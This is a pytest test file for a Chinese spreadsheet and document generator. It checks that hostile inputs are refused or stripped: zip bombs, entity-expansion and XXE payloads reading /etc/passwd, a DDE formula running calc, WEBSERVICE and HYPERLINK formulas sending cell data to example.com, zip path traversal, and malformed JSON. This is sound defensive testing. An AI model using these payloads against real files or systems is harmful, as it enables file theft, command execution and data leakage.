"""Workbooks and documents made to do harm: refused in Chinese with the file's name, or read without it; nothing run."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pytest

from generator.system.screening import inspect
from tests.hostile.inputs import (
    DEPARTMENTS,
    everything_in,
    json_ledger,
    package,
    parts_of,
    run,
    source,
    template,
    workbook_ledger,
    workspace,
)

MIB = 1024 * 1024
TASKS_PART = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.fixture(scope="module")
def ledger(tmp_path_factory) -> bytes:
    return workbook_ledger(tmp_path_factory.mktemp("ledger"))


def changed(data: bytes, part: str, *pairs: tuple[str, str]) -> bytes:
    """A workbook with some text of one part replaced; each text must be there."""
    parts = parts_of(data)
    text = parts[part].decode()
    for old, new in pairs:
        assert re.search(old, text), old
        text = re.sub(old, lambda _, new=new: new, text, count=1)
    return package({**parts, part: text.encode()})


def with_parts(data: bytes, **parts: bytes) -> bytes:
    return package({**parts_of(data), **{name.replace("__", "/"): part for name, part in parts.items()}})


def sheet_of(cells: str, more: str = "") -> bytes:
    return f"<worksheet {MAIN}><sheetData>{cells}</sheetData>{more}</worksheet>".encode()


def nested(data: bytes) -> bytes:
    """A zip in a zip in a zip."""
    for _ in range(6):
        data = package({"inner.zip": data})
    return data


def strings(*texts: str) -> bytes:
    return f"<sst {MAIN}>{''.join(f'<si><t>{text}</t></si>' for text in texts)}</sst>".encode()


def expanding_entities() -> bytes:
    levels = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE sst [<!ENTITY e0 "哈哈">{levels}]><sst {MAIN}><si><t>&e9;</t></si></sst>'.encode()


def many_strings(count: int) -> bytes:
    return f"<sst {MAIN}>".encode() + b"".join(b"<si><t>%06d</t></si>" % n for n in range(count)) + b"</sst>"


WEAPONS = {
    "a part that packs too well": lambda data: with_parts(data, xl__media__a=bytes(64 * MIB)),
    "many parts": lambda data: package({**parts_of(data), **{f"x/{n}": b"" for n in range(10_001)}}),
    "entities that grow": lambda data: with_parts(data, **{STRINGS.replace("/", "__"): expanding_entities()}),
    "an entity that reads a file": lambda data: with_parts(
        data, **{TASKS_PART: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet>&b;</worksheet>'}
    ),
    "entities in an encoding that hides them": lambda data: with_parts(
        data, **{TASKS_PART: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a><worksheet/>'}
    ),
    "entities in UTF-16": lambda data: with_parts(
        data, **{TASKS_PART: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><worksheet/>'.encode("utf-16")}
    ),
    "entities in a part that is not called XML": lambda data: with_parts(data, xl__data__bin=b"\n<!DOCTYPE a><a/>"),
    "a cell in the far corner": lambda data: changed(data, TASKS_PART, (r'r="C4"', 'r="XFD1048576"')),
    "a far cell between single quotes": lambda data: changed(data, TASKS_PART, (r'r="C4"', "r = 'XFD1048576'")),
    "a far cell in small letters": lambda data: changed(data, TASKS_PART, (r'r="C4"', 'r="xfd1048576"')),
    "a far cell written with a character reference": lambda data: changed(
        data, TASKS_PART, (r'r="C4"', 'r="&#88;FD1048576"')
    ),
    "a far row whose cells have no names": lambda data: with_parts(
        data, **{TASKS_PART: sheet_of('<row r="1"><c r="ABC1"/></row><row r="1048576"><c/></row>')}
    ),
    "a far cell on a sheet with an odd name": lambda data: with_parts(
        data, xl__odd=sheet_of('<row r="1048576"><c r="XFD1048576"/></row>')
    ),
    "a far cell that needs no three letters": lambda data: changed(data, TASKS_PART, (r'r="C4"', 'r="ZZ99999"')),
    "a merge over the whole sheet": lambda data: changed(
        data,
        TASKS_PART,
        ("</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    ),
    "a flood of styles": lambda data: changed(data, "xl/styles.xml", ("</cellXfs>", "<xf/>" * 140_000 + "</cellXfs>")),
    "a flood of fonts": lambda data: changed(data, "xl/styles.xml", ("</fonts>", "<font/>" * 140_000 + "</fonts>")),
    "a flood of shared strings": lambda data: with_parts(data, **{STRINGS: many_strings(2_100_000)}),
    "one long string in many cells": lambda data: with_parts(
        data,
        **{
            STRINGS: strings("长" * 30_000),
            TASKS_PART: sheet_of(
                "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 2_000))
            ),
        },
    ),
    "a sheet that says how many rows it has and has none": lambda data: changed(
        data, TASKS_PART, (r'<row r="4"', '<row r="99999999999"')
    ),
}


CODES = {
    "entities that grow": "entities",
    "an entity that reads a file": "entities",
    "entities in an encoding that hides them": "damaged",
    "entities in UTF-16": "entities",
    "entities in a part that is not called XML": "entities",
    "a far cell written with a character reference": "damaged",
}


def refused(root: Path, *arguments: str | Path, name: str) -> str:
    """Run a command that must refuse: exit 1, a Chinese message with the file's name, nothing written."""
    before = everything_in(root)
    result = run(*arguments)
    assert isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code == 1
    assert name in result.output
    assert re.search("[一-鿿]", result.output)
    assert everything_in(root) == before
    return result.output


def refused_ledger(tmp_path: Path, data: bytes) -> str:
    """The code of the one problem for which a build is refused."""
    root = workspace(tmp_path / "w", data, name="ledger.xlsx")
    refused(root, "build", "--workspace", root, name="ledger.xlsx")
    (problem,) = json.loads(run("build", "--json", "--workspace", root).output)["problems"]
    return problem["code"]


@pytest.mark.parametrize("name", WEAPONS)
def test_a_ledger_that_is_a_weapon_is_refused(tmp_path, ledger, name):
    data = WEAPONS[name](ledger)
    code = CODES.get(name, "too-large")
    assert [problem.code for problem in inspect(data, "ledger.xlsx")] == [code]
    assert refused_ledger(tmp_path, data) == code


def test_zips_in_zips_are_not_opened(tmp_path, ledger):
    assert refused_ledger(tmp_path, nested(ledger)) == "damaged"


@pytest.mark.parametrize("reference", ["XFD1048576", "ZZ99999"])
def test_a_template_whose_cells_reach_too_far_is_refused(tmp_path, reference):
    data = changed(template(), TASKS_PART, (r'r="A6"', f'r="{reference}"'))
    root = workspace(tmp_path / "w", json_ledger(), {"总表": data})
    refused(root, "check", "--workspace", root, name="总表.xlsx")


def test_a_template_merged_over_the_whole_sheet_is_refused(tmp_path):
    data = changed(template(), TASKS_PART, ('ref="A1:C1"', 'ref="A1:XFD1048576"'))
    root = workspace(tmp_path / "w", json_ledger(), {"总表": data})
    refused(root, "check", "--workspace", root, name="总表.xlsx")


def test_a_source_merged_over_the_whole_sheet_is_refused(tmp_path):
    data = changed(source(tmp_path, ".xlsx"), TASKS_PART, (r'ref="A4:A5"', 'ref="A4:XFD1048576"'))
    (tmp_path / "来件.xlsx").write_bytes(data)
    refused(tmp_path, "import", tmp_path / "来件.xlsx", "-o", tmp_path / "新.xlsx", name="来件.xlsx")


@pytest.mark.parametrize(
    ("suffix", "part", "old", "new"),
    [
        (".docx", "word/document.xml", "<w:tcPr>", '<w:tcPr><w:gridSpan w:val="999999999"/>'),
        (".docx", "word/document.xml", "<w:tr>", '<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>'),
        (
            ".xlsx",
            TASKS_PART,
            "<sheetData>",
            '<cols><col min="1" max="99999999999" hidden="1" width="9"/></cols><sheetData>',
        ),
    ],
)
def test_a_source_that_claims_to_be_wide_is_refused_or_read_without_it(tmp_path, suffix, part, old, new):
    path = tmp_path / f"来件{suffix}"
    path.write_bytes(changed(source(tmp_path, suffix), part, (old, new)))
    refused(tmp_path, "import", path, "-o", tmp_path / "新.xlsx", name=path.name)


@pytest.mark.parametrize("attribute", ['colspan="10000"', 'colspan="99999999999999"'])
def test_a_page_whose_cells_cover_thousands_of_columns_is_refused(tmp_path, attribute):
    path = tmp_path / "来件.html"
    path.write_bytes(source(tmp_path, ".html").replace(b'colspan="1"', attribute.encode()))
    said = refused(tmp_path, "import", path, "-o", tmp_path / "新.xlsx", name=path.name)
    assert "文件大得不正常" in said


def test_text_too_long_for_a_cell_is_refused_where_it_is_imported(tmp_path):
    path = tmp_path / "来件.html"
    path.write_bytes(source(tmp_path, ".html").replace("公布历史规划".encode(), ("长" * 40_000).encode()))
    assert "文字太长" in refused(tmp_path, "import", path, "-o", tmp_path / "新.xlsx", name=path.name)


# ------------------------------------------------------------------------------ what is read without its harm


def problems_of(root: Path) -> list[tuple[str, str, str, str]]:
    found = json.loads(run("check", "--workspace", root, "--json").output)["problems"]
    return [(each["severity"], each["code"], each["sheet"], each["cell"]) for each in found]


def test_formulas_in_data_are_taken_as_shown_and_named_by_cell(tmp_path, ledger):
    data = changed(
        ledger,
        TASKS_PART,
        (r'<c r="E2"([^>]*?) t="s"><v>\d+</v>', '<c r="E2" t="str"><f>cmd|"/C calc"!A0</f><v>显示的任务</v>'),
    )
    root = workspace(tmp_path / "w", data)
    assert problems_of(root) == [("warning", "formula-cell", "台账", "E2")]
    assert run("build", "--workspace", root).exit_code == 0
    sheet = openpyxl.load_workbook(root / "output" / "总表.xlsx").worksheets[0]
    assert [cell.value for row in sheet.iter_rows() for cell in row if "显示" in str(cell.value)] == ["1.显示的任务"]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_thousands_of_formulas_are_not_told_one_by_one(tmp_path, ledger):
    rows = "".join(f'<row r="{n}"><c r="P{n}" t="str"><f>1</f><v>x</v></c></row>' for n in range(10, 2_000))
    root = workspace(tmp_path / "w", changed(ledger, TASKS_PART, ("</sheetData>", rows + "</sheetData>")))
    problems = json.loads(run("check", "--workspace", root, "--json").output)["problems"]
    formulas, more = (each for each in problems if each["code"] == "formula-cell")
    assert len(formulas["cells"]) == 50
    assert "1940" in more["message"]  # 1,990 in all


def test_macros_are_named_and_not_carried(tmp_path, ledger):
    root = workspace(tmp_path / "w", with_parts(ledger, xl__vbaProject__bin=b"x" * 100), name="ledger.xlsx")
    data = package({**parts_of(ledger), "xl/vbaProject.bin": b"x" * 100})
    (root / "input" / "ledger.xlsx").write_bytes(data)
    assert ("warning", "macros", "", "") in problems_of(root)
    run("build", "--workspace", root)
    assert not any("vba" in name.lower() for name in parts_of((root / "output" / "总表.xlsx").read_bytes()))


def test_hidden_sheets_are_read_like_others(tmp_path, ledger):
    root = workspace(
        tmp_path / "w",
        changed(ledger, "xl/workbook.xml", (r'<sheet name="单位"', '<sheet state="veryHidden" name="单位"')),
    )
    assert problems_of(root) == []


def test_a_relationship_to_a_missing_part_is_refused(tmp_path, ledger):
    data = changed(ledger, "xl/_rels/workbook.xml.rels", ("worksheets/sheet1.xml", "worksheets/none.xml"))
    assert refused_ledger(tmp_path, data) == "damaged"


def test_a_relationship_out_of_the_package_is_refused(tmp_path, ledger):
    (tmp_path / "secret.xml").write_bytes(parts_of(ledger)[TASKS_PART])
    data = changed(ledger, "xl/_rels/workbook.xml.rels", ("worksheets/sheet1.xml", f"../../../..{tmp_path}/secret.xml"))
    assert refused_ledger(tmp_path, data) == "damaged"


def test_external_links_are_not_followed_and_not_carried(tmp_path, ledger):
    data = with_parts(
        ledger, **{"xl/externalLinks/externalLink1.xml": f"<externalLink {MAIN}><ddeLink/></externalLink>".encode()}
    )
    root = workspace(tmp_path / "w", data)
    assert run("build", "--workspace", root).exit_code == 0
    assert not any("external" in name for name in parts_of((root / "output" / "总表.xlsx").read_bytes()))


def test_an_archive_with_paths_that_leave_it_writes_nothing_outside(tmp_path, ledger):
    stream = io.BytesIO(ledger)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("../../../逃出.txt", "x")
        archive.writestr("/tmp/逃出.txt", "x")
    root = workspace(tmp_path / "w", stream.getvalue())
    assert run("build", "--workspace", root).exit_code == 0
    assert not list(tmp_path.rglob("逃出*")) and not Path("/tmp/逃出.txt").exists()


@pytest.mark.parametrize(
    "json_text",
    [
        b'{"title": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"title": "a", "tasks": [' + b'{"content": "a", "extra": ' * 100_000,
        b'{"title": "\\ud800", "tasks": []}',
        b'{"title": "a", "year": 99999999999999999999999, "tasks": []}',
        b'{"title": "a", "tasks": [{"content": "a", "number": ' + b"9" * 10_000 + b"}]}",
        b'{"title": "a", "tasks": [{"content": "a", "extra": {"n": 1e999}}]}',
        b'{"title": "a", "tasks": [{"content": "a", "extra": {"n": {"date": "2021-99-99"}}}]}',
        b'{"title": "a", "tasks": [{"content": "a", "extra": {"n": {"date": "1600-01-01"}}}]}',
        b'{"title": "a", "tasks": [{"content": "a", "extra": {"n": {"date": "2021-01-01T00:00:00+08:00"}}}]}',
        b'{"title": "a", "title": "b"',
        b"\xff\xfe{\0}\0",
    ],
)
def test_json_that_is_a_weapon_is_refused(tmp_path, json_text):
    root = workspace(tmp_path / "w", json_text, name="ledger.json")
    refused(root, "build", "--workspace", root, name="ledger.json")


MEASURED = """
    import resource, sys
    resource.setrlimit(resource.RLIMIT_DATA, ({limit}, {limit}))
    from generator.cli import main
    main(["convert", sys.argv[1], "-o", sys.argv[2]])
"""


def test_what_intake_lets_through_stays_within_500_mib(tmp_path):
    """A sheet of nearly five million cells' area with nearly two million strings, within every limit."""
    cells = '<row r="1"><c r="AX1"/></row><row r="99000"><c r="A99000" t="s"><v>5</v></c></row>'
    parts = parts_of(workbook_ledger(tmp_path, departments=DEPARTMENTS))
    parts[TASKS_PART] = sheet_of(cells)
    parts[STRINGS] = many_strings(1_900_000)
    (tmp_path / "大.xlsx").write_bytes(package(parts))
    script = textwrap.dedent(MEASURED).format(limit=500 * MIB)
    done = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "大.xlsx"), str(tmp_path / "新.json")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1
    assert "大.xlsx" in done.stderr and "Traceback" not in done.stderr


OUTWARD = {
    "D2": '=WEBSERVICE("http://example.com/?"&A1)',
    "E2": "=cmd|' /C calc'!A0",
    "F2": "=[1]Sheet1!A1",
    "G2": "='http://example.com/[a.xlsx]S'!A1",
    "H2": '=HYPERLINK("http://example.com/?"&A1,"点这里")',
    "I2": '=_xlfn.RTD("prog","","x")',
    "J2": '=SUM(1,CUBEVALUE("连接","[x]"))',
    "K2": "=SUM((1",
}
INWARD = {"D1": "=SUM(1,2)", "E1": '=HYPERLINK("#Sheet!A1","回到开头")', "F1": '="a|b [1]!"'}


def test_what_calls_out_of_a_template_is_not_carried_and_named_by_cell(tmp_path):
    book = openpyxl.load_workbook(io.BytesIO(template()))
    sheet = book.active
    for cell, formula in {**OUTWARD, **INWARD}.items():
        sheet[cell] = formula
    fill = openpyxl.styles.PatternFill("solid", bgColor="FF0000")
    rule = openpyxl.formatting.rule.FormulaRule(formula=['WEBSERVICE("http://example.com")<>""'], fill=fill)
    sheet.conditional_formatting.add("A4:A4", rule)
    validation = openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1="[1]S!$A$1:$A$3")
    validation.add("C4")
    sheet.add_data_validation(validation)
    for name, text in {"外": "'file:///c:/[x.xlsx]S'!$A$1", "网": 'WEBSERVICE("http://e")', "内": "Sheet!$A$1"}.items():
        book.defined_names[name] = openpyxl.workbook.defined_name.DefinedName(name, attr_text=text)
    stream = io.BytesIO()
    book.save(stream)
    root = workspace(tmp_path / "w", json_ledger(), {"总表": stream.getvalue()})
    result = run("build", "--json", "--workspace", root)
    assert result.exit_code == 0, result.output
    problems = [each for each in json.loads(result.output)["problems"] if each["code"] == "formula-not-carried"]
    assert {cell for each in problems for cell in each["cells"] or [""]} == {*OUTWARD, "A4", "C4", ""}
    parts = parts_of((root / "output" / "总表.xlsx").read_bytes())
    harm = re.compile(rb"WEBSERVICE|cmd\||\[1\][^!]*!A|http://e|file:///|RTD|CUBEVALUE|SUM\(\(")
    assert {name for name, data in parts.items() if harm.search(data)} == set()
    formulas = set(re.findall(rb"<f>(.*?)</f>", parts["xl/worksheets/sheet1.xml"]))
    assert len(formulas) == len(INWARD)
    assert b"\xe5\x86\x85" in parts["xl/workbook.xml"]


def declared(data: bytes, size: int) -> bytes:
    """A package whose directory says that its first part unpacks to `size` bytes."""
    at = data.index(b"PK\x01\x02") + 24
    return data[:at] + size.to_bytes(4, "little") + data[at + 4 :]


def test_a_part_that_says_it_unpacks_to_2_gib_is_not_unpacked(tmp_path, ledger):
    assert refused_ledger(tmp_path, declared(ledger, 2**31)) == "too-large"


def test_a_sheet_that_says_it_is_full_is_read_by_its_cells(tmp_path, ledger):
    full = ("<dimension ref=[^/]*/>", '<dimension ref="A1:XFD1048576"/>')
    book = changed(ledger, TASKS_PART, full)
    page = changed(template(), "xl/worksheets/sheet1.xml", full)
    root = workspace(tmp_path / "w", book, {"总表": page}, name="ledger.xlsx")
    assert run("build", "--workspace", root).exit_code == 0
    original = tmp_path / "original.xlsx"
    original.write_bytes(changed(source(tmp_path, ".xlsx"), "xl/worksheets/sheet1.xml", full))
    result = run("import", original, "-o", tmp_path / "back.xlsx")
    assert result.exit_code == 0, result.output
    code = (
        f"import resource, sys; resource.setrlimit(resource.RLIMIT_DATA, ({500 * MIB}, {500 * MIB})); "
        "from pathlib import Path; from generator import documents, ledger, template; "
        "ledger.read(Path(sys.argv[1])), template.read(Path(sys.argv[2])), documents.read(Path(sys.argv[3]))"
    )
    paths = (root / "input" / "ledger.xlsx", root / "templates" / "总表.xlsx", original)
    subprocess.run([sys.executable, "-c", code, *paths], check=True, capture_output=True)
